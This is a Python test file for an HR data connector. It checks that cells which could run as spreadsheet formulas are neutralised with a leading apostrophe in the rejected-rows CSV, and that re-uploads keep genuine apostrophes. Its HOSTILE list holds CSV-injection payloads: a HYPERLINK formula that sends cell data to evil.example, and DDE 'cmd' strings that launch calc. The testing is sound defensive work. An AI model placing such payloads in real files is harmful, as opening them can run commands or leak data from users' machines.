"""Issue 10, case 12: the rejected-rows CSV cannot run formulas when an admin opens it."""

from __future__ import annotations

import csv

from hrconnector_core.pipeline import LocalFileSource, UploadOptions, run_upload
from hrconnector_core.report import RejectedRowsWriter, neutralise

from .csvdata import HEADER, write_csv

HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_formula_cells_are_neutralised_and_values_are_kept(tmp_path):
    data = [["bad-email", "2024-01-01T00:00:00Z", remark, "1"] for remark in HOSTILE]
    data += [["bad-email", "2024-01-01T00:00:00Z", value, "-"] for value in ("-12", "+3.5", "-", "plain")]
    path = write_csv(tmp_path / "hr.csv", HEADER, data)
    rejected = tmp_path / "rejected.csv"
    report = run_upload(
        LocalFileSource(path),
        UploadOptions(job_id="j", dry_run=True),
        client=None,
        store=None,
        rejected_rows=RejectedRowsWriter(rejected),
    )
    assert report.rows.rejected == len(data)
    with rejected.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))[1:]
    remarks = [r[4] for r in rows]
    assert remarks[: len(HOSTILE)] == ["'" + h for h in HOSTILE]
    assert remarks[len(HOSTILE) :] == ["-12", "+3.5", "-", "plain"]  # numbers and a lone sign stay as they are
    for row in rows:
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) and cell not in ("+3.5",) for cell in row)


def test_neutralise_rule():
    assert neutralise("=1+1") == "'=1+1" and neutralise("@x") == "'@x" and neutralise("-x") == "'-x"
    assert neutralise("-5") == "-5" and neutralise("+1,5") == "+1,5" and neutralise("-") == "-"
    assert neutralise("José") == "José" and neutralise("'=already") == "'=already"


def test_a_neutralised_file_dropped_again_is_reported_not_uploaded_with_a_stray_apostrophe(
    tmp_path, emulator, job, make_client
):
    """The admin fixes the e-mail addresses in the rejected-rows file and drops it again as it is,
    its RejectedRow and RejectedReasons columns and our apostrophes still in."""
    data = [[f"bad{i}", "2024-01-01T00:00:00Z", remark, "1"] for i, remark in enumerate([*HOSTILE, "-12", "plain"])]
    rejected = tmp_path / "rejected.csv"
    run_upload(
        LocalFileSource(write_csv(tmp_path / "hr.csv", HEADER, data)),
        UploadOptions(job_id="j", dry_run=True),
        client=None,
        store=None,
        rejected_rows=RejectedRowsWriter(rejected),
    )
    with rejected.open(encoding="utf-8", newline="") as handle:
        header, *rows = csv.reader(handle)
    assert header[:2] == ["RejectedRow", "RejectedReasons"]
    fixed = [[row[0], row[1], f"user{i}@contoso.com", *row[3:]] for i, row in enumerate(rows)]
    fixed.append(
        ["99", "a note", "quote@contoso.com", "2024-01-01T00:00:00Z", "'Tis an apostrophe of the data's own", "1"]
    )
    again = tmp_path / "again.csv"
    with again.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([header, *fixed])
    report = run_upload(LocalFileSource(again), UploadOptions(job_id=job), client=make_client(job), store=None)
    # "-12", "plain" and the data's own apostrophe arrive, without our two columns
    assert emulator.state.rows(job) == [row[2:] for row in fixed[len(HOSTILE) :]]
    assert emulator.state.uploads[job][0].header == HEADER
    assert report.rows.rejected == len(HOSTILE)
    assert [(i.row, i.code) for i in report.issues] == [(r, "neutralised-formula") for r in range(2, 2 + len(HOSTILE))]
    assert "field 3 starts with the apostrophe" in report.issues[0].message
    assert report.rows.balanced and report.status == "partial"


def test_an_original_export_with_a_leading_apostrophe_is_uploaded_as_it_is(tmp_path, emulator, job, make_client):
    """Only our rejected-rows file carries our apostrophes: elsewhere a leading apostrophe is data."""
    data = [[f"user{i}@contoso.com", "2024-01-01T00:00:00Z", "'+31 20 123 4567", "1"] for i in range(3)]
    report = run_upload(
        LocalFileSource(write_csv(tmp_path / "hr.csv", HEADER, data)),
        UploadOptions(job_id=job),
        client=make_client(job),
        store=None,
    )
    assert report.status == "succeeded" and report.rows.rejected == 0
    assert emulator.state.rows(job) == data
